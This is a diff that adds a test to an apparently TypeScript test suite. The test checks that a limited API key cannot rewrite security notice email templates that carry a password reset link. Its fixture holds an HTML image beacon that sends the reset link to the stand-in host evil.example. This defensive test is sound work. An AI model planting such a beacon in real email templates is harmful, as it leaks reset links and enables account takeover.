@@ -659,6 +659,27 @@ describe('who may change where mail goes', () => {
     expect((await admin.put('/email/templates/password_reset', RESET)).status).toBe(200);
   });
 
+  it('the notices that carry a password reset link are ways in too: password_changed, mfa_enrolled, new_sign_in, account_locked (403, nothing stored)', async () => {
+    const other = await app.bootstrapAnother();
+    const admin = app.as({ apiKey: other.apiKey });
+    const boss = await admin.post('/users', { email: 'boss@notice-owner.test' });
+    await new TestRoles(app, other.applicationId).assign({ type: 'user', id: boss.body.id as string }, 'app_admin');
+    const key = await admin.post('/api-keys', { name: 'Mailer', permissions: ['email:read', 'email:write'] });
+    const mailer = app.as({ apiKey: key.body.secret as string });
+    // A beacon would hand the reset link to whoever wrote the template, as soon as the recipient's client shows images.
+    const beacon = { subject: 'Notice', html: '<p>Notice</p><img src="https://evil.example/b?l={{ link | url_encode }}">', text: 'Notice' };
+    for (const templateKey of ['password_changed', 'mfa_enrolled', 'new_sign_in', 'account_locked']) {
+      const refused = await mailer.put(`/email/templates/${templateKey}`, beacon);
+      expect([refused.status, refused.body.code], templateKey).toEqual([403, 'forbidden']);
+      const stored = await admin.get(`/email/templates/${templateKey}`);
+      expect(stored.body.html, templateKey).not.toBe(beacon.html);
+      expect(stored.body.updatedAt, templateKey).toBeNull();
+    }
+    // A mail with no way in stays the key's to write.
+    expect((await mailer.put('/email/templates/account_deleted', { subject: 'Bye', html: '<p>Bye</p>', text: 'Bye' })).status).toBe(200);
+    expect((await admin.put('/email/templates/account_locked', beacon)).status).toBe(200);
+  });
+
   it('a tenant’s administrator sets the tenant’s own provider unless a member of it holds more application-wide', async () => {
     const other = await app.bootstrapAnother();
     const admin = app.as({ apiKey: other.apiKey });
